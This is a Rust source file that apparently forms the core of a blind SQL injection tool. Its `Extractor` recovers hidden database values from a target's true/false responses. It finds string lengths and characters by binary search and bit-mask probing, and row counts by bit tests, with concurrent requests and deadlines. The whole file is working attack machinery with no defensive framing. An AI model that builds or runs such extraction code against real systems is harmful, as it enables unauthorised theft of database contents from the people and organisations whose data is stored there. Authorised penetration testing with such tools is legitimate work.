//! Blind extraction primitives.
//!
//! Everything here is built from `Oracle::evaluate` and the dialect's probe
//! fragments. Lengths and characters are found by binary search, counts by
//! independent bit tests. Errors propagate as soon as they happen; nothing is
//! ever replaced by a placeholder.

use crate::config::{
    CharStrategy, EngineConfig, DEFAULT_CHARSET, DEFAULT_CONCURRENCY, DEFAULT_MAX_BITS,
    DEFAULT_MAX_LEN,
};
use crate::error::{BlindError, Result};
use crate::sqli::dialect::Dialect;
use crate::sqli::oracle::Oracle;
use crate::sqli::target::ExtractionTarget;
use futures::future::join_all;
use futures::stream::{self, StreamExt};
use std::future::Future;
use std::time::Duration;

/// Bits probed per character by [`CharStrategy::BitMask`].
const CHAR_BITS: u32 = 7;

/// Highest bit budget for integers; keeps `1 << max_bits` inside `u64`.
const MAX_BIT_BUDGET: u32 = 62;

pub struct Extractor<O> {
    oracle: O,
    dialect: Dialect,
    max_len: usize,
    charset: (u8, u8),
    max_bits: u32,
    concurrency: usize,
    strategy: CharStrategy,
    timeout: Option<Duration>,
}

impl<O: Oracle> Extractor<O> {
    /// Extractor with the default limits.
    pub fn new(oracle: O, dialect: Dialect) -> Self {
        Self {
            oracle,
            dialect,
            max_len: DEFAULT_MAX_LEN,
            charset: DEFAULT_CHARSET,
            max_bits: DEFAULT_MAX_BITS,
            concurrency: DEFAULT_CONCURRENCY,
            strategy: CharStrategy::default(),
            timeout: None,
        }
    }

    pub fn from_config(oracle: O, dialect: Dialect, config: &EngineConfig) -> Self {
        Self {
            oracle,
            dialect,
            max_len: config.max_len,
            charset: config.charset_bounds,
            max_bits: config.max_bits,
            concurrency: config.concurrency_limit.max(1),
            strategy: config.char_strategy,
            timeout: config.timeout(),
        }
    }

    pub fn with_concurrency(mut self, limit: usize) -> Self {
        self.concurrency = limit.max(1);
        self
    }

    pub fn with_charset(mut self, lo: u8, hi: u8) -> Self {
        self.charset = (lo, hi);
        self
    }

    pub fn with_strategy(mut self, strategy: CharStrategy) -> Self {
        self.strategy = strategy;
        self
    }

    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = Some(timeout);
        self
    }

    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    pub fn dialect(&self) -> Dialect {
        self.dialect
    }

    pub fn max_len(&self) -> usize {
        self.max_len
    }

    /// Length of `expr` in `[0, max_len]`.
    ///
    /// One probe for the empty string, then a binary search over
    /// `[1, max_len + 1]` where the upper sentinel means "longer than
    /// `max_len`" and is reported as exhausted.
    ///
    /// Costs at most `1 + ceil(log2(max_len + 1))` oracle calls: 9 for the
    /// default `max_len` of 128. The sentinel slot adds one call over a plain
    /// search of `[1, max_len]` when `max_len` is a power of two.
    pub async fn length_of(&self, expr: &str, max_len: usize) -> Result<usize> {
        if max_len == 0 {
            return Err(BlindError::invalid_config("max_len must be at least 1"));
        }

        if self
            .oracle
            .evaluate(&self.dialect.length_at_most(expr, 0))
            .await?
        {
            return Ok(0);
        }

        let (mut lo, mut hi) = (1usize, max_len + 1);
        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            if self
                .oracle
                .evaluate(&self.dialect.length_at_most(expr, mid))
                .await?
            {
                hi = mid;
            } else {
                lo = mid + 1;
            }
        }

        if lo > max_len {
            return Err(BlindError::exhausted(format!(
                "length of {} exceeds {} (or is NULL)",
                expr, max_len
            )));
        }
        tracing::debug!("length of {} = {}", expr, lo);
        Ok(lo)
    }

    /// Character at 1-based `pos`, searched within `[lo, hi]` using the
    /// configured strategy.
    pub async fn char_at(&self, expr: &str, pos: usize, lo: u8, hi: u8) -> Result<char> {
        if lo > hi {
            return Err(BlindError::invalid_config(format!(
                "charset bounds {}..={} are inverted",
                lo, hi
            )));
        }
        let code = match self.strategy {
            CharStrategy::Bisect => self.bisect_char(expr, pos, lo, hi).await?,
            CharStrategy::BitMask => self.bitmask_char(expr, pos, lo, hi).await?,
        };
        let c = char::from(code);
        tracing::debug!("char {} of {} = {:?}", pos, expr, c);
        Ok(c)
    }

    async fn bisect_char(&self, expr: &str, pos: usize, lo: u8, hi: u8) -> Result<u8> {
        let (mut lo, mut hi) = (u32::from(lo), u32::from(hi));
        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            if self
                .oracle
                .evaluate(&self.dialect.char_compare(expr, pos, ">", mid))
                .await?
            {
                lo = mid + 1;
            } else {
                hi = mid;
            }
        }
        self.confirm_char(expr, pos, lo).await
    }

    async fn bitmask_char(&self, expr: &str, pos: usize, lo: u8, hi: u8) -> Result<u8> {
        let code = self.dialect.char_code(expr, pos);
        let probes = (0..CHAR_BITS).map(|bit| {
            let condition = self.dialect.bit_set(&code, 1u64 << bit);
            async move { self.oracle.evaluate(&condition).await }
        });

        let mut value = 0u32;
        for (bit, answer) in join_all(probes).await.into_iter().enumerate() {
            if answer? {
                value |= 1u32 << bit;
            }
        }

        if value < u32::from(lo) || value > u32::from(hi) {
            return Err(BlindError::exhausted(format!(
                "char {} of {} decoded to {} outside {}..={}",
                pos, expr, value, lo, hi
            )));
        }
        self.confirm_char(expr, pos, value).await
    }

    async fn confirm_char(&self, expr: &str, pos: usize, code: u32) -> Result<u8> {
        let confirmed = self
            .oracle
            .evaluate(&self.dialect.char_compare(expr, pos, "=", code))
            .await?;
        match u8::try_from(code) {
            Ok(byte) if confirmed => Ok(byte),
            _ => Err(BlindError::exhausted(format!(
                "char {} of {} did not resolve (last candidate {})",
                pos, expr, code
            ))),
        }
    }

    /// Integer value of `expr` from independent bit probes.
    ///
    /// A leading `expr >= 2^max_bits` probe turns values that do not fit into
    /// [`BlindError::CountOverflow`] instead of a silently truncated number.
    pub async fn bit_count(&self, expr: &str, max_bits: u32) -> Result<u64> {
        if max_bits == 0 || max_bits > MAX_BIT_BUDGET {
            return Err(BlindError::invalid_config(format!(
                "max_bits must be within 1..={}",
                MAX_BIT_BUDGET
            )));
        }

        if self
            .oracle
            .evaluate(&self.dialect.at_least(expr, 1u64 << max_bits))
            .await?
        {
            return Err(BlindError::CountOverflow { max_bits });
        }

        let probes = (0..max_bits).map(|bit| {
            let condition = self.dialect.bit_set(expr, 1u64 << bit);
            async move { self.oracle.evaluate(&condition).await }
        });

        let mut value = 0u64;
        for (bit, answer) in join_all(probes).await.into_iter().enumerate() {
            if answer? {
                value |= 1u64 << bit;
            }
        }
        tracing::debug!("value of {} = {}", expr, value);
        Ok(value)
    }

    /// Row count of a `SELECT COUNT(*)` query, within the configured bit
    /// budget and deadline.
    pub async fn extract_count(&self, count_query: &str) -> Result<u64> {
        self.with_deadline(self.bit_count(count_query, self.max_bits))
            .await
    }

    /// Recovers the string value of `expr`.
    ///
    /// Positions are independent probes; with a concurrency limit above one
    /// they run in parallel and are reassembled by index.
    pub async fn extract_string(&self, expr: &str, max_len: usize) -> Result<String> {
        self.with_deadline(self.extract_string_inner(expr, max_len))
            .await
    }

    /// [`Self::extract_string`] for a target, using the configured `max_len`.
    pub async fn extract(&self, target: &ExtractionTarget) -> Result<String> {
        let expr = target.to_expression(self.dialect);
        self.extract_string(&expr, self.max_len).await
    }

    async fn extract_string_inner(&self, expr: &str, max_len: usize) -> Result<String> {
        let length = self.length_of(expr, max_len).await?;
        if length == 0 {
            return Ok(String::new());
        }

        tracing::info!("[BLIND] Extracting {} characters...", length);
        let (lo, hi) = self.charset;

        if self.concurrency <= 1 {
            let mut value = String::with_capacity(length);
            for pos in 1..=length {
                value.push(self.char_at(expr, pos, lo, hi).await?);
                if pos % 10 == 0 {
                    tracing::debug!("[BLIND] Progress: {}/{}", pos, length);
                }
            }
            return Ok(value);
        }

        let mut resolved = Vec::with_capacity(length);
        let mut pending = stream::iter(1..=length)
            .map(|pos| async move { self.char_at(expr, pos, lo, hi).await.map(|c| (pos, c)) })
            .buffer_unordered(self.concurrency);

        while let Some(result) = pending.next().await {
            resolved.push(result?);
        }

        resolved.sort_unstable_by_key(|(pos, _)| *pos);
        Ok(resolved.into_iter().map(|(_, c)| c).collect())
    }

    async fn with_deadline<T, F>(&self, work: F) -> Result<T>
    where
        F: Future<Output = Result<T>>,
    {
        match self.timeout {
            Some(limit) => tokio::time::timeout(limit, work)
                .await
                .map_err(|_| BlindError::Timeout(limit))?,
            None => work.await,
        }
    }
}
